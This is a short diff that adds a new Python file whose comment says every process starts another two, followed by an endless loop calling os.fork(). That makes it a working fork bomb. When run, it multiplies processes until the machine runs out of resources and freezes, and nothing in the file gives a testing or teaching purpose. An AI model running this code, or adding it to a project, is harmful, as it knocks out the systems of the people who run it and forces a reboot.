@@ -1,0 +1,5 @@
+# Every process starts another two.
+import os
+
+while True:
+    os.fork()
